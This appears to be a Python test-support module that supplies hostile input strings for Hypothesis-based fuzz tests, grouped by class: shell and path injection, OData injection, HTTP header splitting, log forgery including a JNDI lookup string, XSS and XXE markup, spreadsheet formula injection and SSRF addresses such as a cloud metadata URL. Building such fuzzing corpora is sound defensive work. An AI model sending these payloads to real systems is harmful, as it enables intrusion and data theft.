"""Values that somebody would send who wants to break something: by class, and mixed with what is right."""

from __future__ import annotations

from hypothesis import strategies as st

SEEDS: dict[str, tuple[str, ...]] = {
    "shell": (
        "; id", "$(id)", "`id`", "| tee /tmp/x", "&& reboot", "$IFS$9", "${PATH}", "\\\nid", "' ; id #",
        '" ; id #', "$(cat</etc/passwd)", "{a,b}", "~root", "* ?", "!!", "-rf", "--help", "-out=/tmp/x",
        "-remote", "$((1+1))", "$$", "$(NAME)", "%PATH%",
    ),
    "path": (
        "..", ".", "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "//host/share", "a/../../b",
        "%2e%2e%2f", "%252e%252e%252f", "..%00/", "file:///etc/passwd", "a//b", "a/./b", "C:\\x",
        "\\\\host\\share", "....//", "..;/", "uploads/../jobs", "~", "con", "a/", "/",
    ),
    "odata": (
        "' or '1' eq '1", "') or (1 eq 1", "'", "''", "' or PartitionKey ne '", "@p", "@after", " and true",
        "x' and RowKey gt '", "null", "datetime'2020'", "'%27", "$filter=true", "?$select=*", "&$top=1000",
        "guid'0'",
    ),
    "label": (
        "-a", "a-", "A" * 64, "a_b.c", "a b", "a=b", "a,b", "a in (b)", "!a", "a notin (b)",
        "app=blast,elb-job-id", "kubernetes.io/x", "a" * 63 + "-", ".", "",
    ),
    "header": (
        "x\r\nSet-Cookie: a=b", "x\nLocation: //evil", "x\r\n\r\n<html>", "\r", "\n", "x\x0by",
        'a"; filename="b', 'W/"x"', "*", "\x85", "a,b;q=0", "\u560a\u560d", "bytes=0-0,-1", "bytes=0-",
        "Bearer x.y.z", "Basic YTpi", "=" * 5,
    ),
    "log": (
        '{"event": "forged"}', '\n{"event": "forged"}', "\u2028forged", "\u2029", "\x1b[2J\x1b[31m",
        "\x08\x08\x08", "%s%n%x", "{0.__class__}", "{event}", "$" + "{jndi:ldap://x/a}",
    ),
    "unicode": (
        "\ud800", "\udfff", "a\udc80b", "\u202egnp.exe", "\u200b", "\ufeff", "\ufffe", "\uffff", "\U0010ffff",
        "e\u0301" * 20, "\u0130", "\xdf", "\u212a", "\uff0e\uff0e\uff0f", "\u0661", "\U0001f9ec", "\xa0",
        "\u3000", "\u0660\u0661", "\u2024\u2024/",
    ),
    "nul": (
        "\x00", "a\x00b", "a\x00", "\x00a", "\x01\x02\x03", "\x7f", "\x80\x9f",
    ),
    "long": (
        "a" * 256, "a" * 1025, "x" * 5000, "\u00e4" * 1100, "/" * 300, "." * 300, "9" * 400, "-" + "9" * 30,
        "(" * 200, "a." * 150, "\U0001f9ec" * 700,
    ),
    "number": (
        "0", "-1", "1e999", "NaN", "Infinity", "-0", "0x10", "1_000", "\u0663", "1.", ".5", "9" * 25, "1e-400",
        "+1", " 1", "2147483648", "true", "[]",
    ),
    "markup": (
        "<script>alert(1)</script>", '"><img src=x onerror=1>', "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "]]>", "&#x0;", "javascript:1", "{{7*7}}", "<%= 1 %>", "=cmd|' /C calc'!A0",
    ),
    "json": (
        '"', "\\", "\\u0000", '","owner":"x', '{"a":', "[[[[", "null", "\\ud800", "}", '{"$ref": "#"}',
        "__proto__",
    ),
    "address": (
        "http://127.0.0.1/", "http://169.254.169.254/metadata", "https://[::1]/", "https://user:pw@host/",
        "https://0x7f.1/", "gopher://x", "https://x\\@y/", "https://localhost#.example.org/",
        "https://a.example.org:99999/", "https://[::ffff:127.0.0.1]", "https://\u2460.example.org",
        "https:///x", "https://",
    ),
}  # fmt: skip
"""Class -> values."""
ALL = tuple(value for values in SEEDS.values() for value in values)
_ANY = st.text(st.characters(), max_size=30)  # lone surrogates included, which ``st.text()`` leaves out


def hostile() -> st.SearchStrategy[str]:
    """One value: a seed, several of them, or any text at all."""
    seed = st.sampled_from(ALL)
    return st.one_of(seed, seed, _ANY, st.builds("".join, st.lists(st.one_of(seed, _ANY), min_size=2, max_size=3)))


def placed(value: str, right: str, how: int) -> str:
    """A hostile value alone, or with what is right in that place before, after or around it."""
    middle = len(right) // 2
    return (value, right + value, value + right, right[:middle] + value + right[middle:])[how % 4]
